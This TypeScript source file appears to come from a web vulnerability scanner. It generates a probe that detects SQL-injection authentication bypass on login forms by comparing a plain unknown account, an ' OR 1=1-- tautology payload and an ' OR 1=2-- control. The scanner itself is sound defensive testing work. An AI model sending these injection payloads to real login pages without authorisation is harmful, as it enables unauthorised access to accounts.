/**
 * Authentication bypass: the observed login with the injected parameter set three ways, all with
 * a fresh unknown account name: plain (must be refused), a harmless tautology (` OR 1=1`), and the
 * same with a false condition (` OR 1=2`, must be refused). Only a login that refuses the plain
 * and false forms and accepts the tautology is bypassed; nothing is written.
 */
import type { Probe } from '../../template/schema';
import { requirePoint, templateRequest, type GenerationContext } from '../context';

export function authBypassProbes(context: GenerationContext): Probe[] {
  const point = requirePoint(context);
  const user = `${context.canary()}@example.invalid`;
  const refused = (n: number) => `status_code_${n} >= 400 && status_code_${n} < 500`;
  return [
    {
      id: 'login-tautology',
      technique: 'auth_bypass',
      confidence: 0.95,
      confirms: `a login with an unknown account in ${point.describe} is refused, but accepted when a tautology follows it (and refused again with a false condition)`,
      requests: [
        templateRequest('baseline', 'unknown account', point.withValue(user)),
        templateRequest('payload', 'unknown account or a true condition', point.withValue(`${user}' OR 1=1-- `)),
        templateRequest('control', 'unknown account or a false condition', point.withValue(`${user}' OR 1=2-- `)),
      ],
      matchers: [{ type: 'dsl', name: 'tautology-logs-in', dsl: [`${refused(1)} && status_code_2 >= 200 && status_code_2 < 300 && ${refused(3)}`] }],
      matchers_condition: 'and',
      extractors: [],
    },
  ];
}
